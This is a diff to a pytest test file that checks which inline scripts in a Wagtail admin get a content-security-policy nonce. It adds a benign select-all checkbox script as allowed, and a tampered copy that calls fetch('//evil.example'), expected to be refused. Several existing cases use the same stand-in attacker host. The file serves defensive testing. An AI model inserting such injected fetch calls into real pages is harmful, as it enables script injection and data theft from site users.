@@ -5,6 +5,18 @@ import pytest
 from security.headers import is_known_admin_script
 
 pytestmark = pytest.mark.django_db
+SELECT_ALL = """
+        document.addEventListener('DOMContentLoaded', function() {
+            var selectAll = document.querySelector('[name="select_all"]');
+            var locales = document.querySelectorAll('[name="locales"]');
+
+            selectAll.addEventListener('change', function() {
+                for (var i = 0; i < locales.length; i++) {
+                    locales[i].checked = selectAll.checked;
+                }
+            });
+        });
+    """
 
 
 def test_public_pages_send_a_strict_content_security_policy(client, site_pages):
@@ -42,6 +54,8 @@ def test_admin_allows_only_wagtails_known_inline_scripts(admin_client, site_page
         ('new ImageChooser("x", {"a": 1}); fetch("//evil.example");', False),
         ('new ImageChooser("x", {"a": 1}); fetch({"b": 2});', False),
         ('initDateChooser("x", {not json});', False),
+        (SELECT_ALL, True),  # wagtail-localize's Translate page
+        (SELECT_ALL.replace("selectAll.checked;", "selectAll.checked; fetch('//evil.example');"), False),
     ],
 )
 def test_only_wagtails_own_inline_scripts_get_the_nonce(script, known):
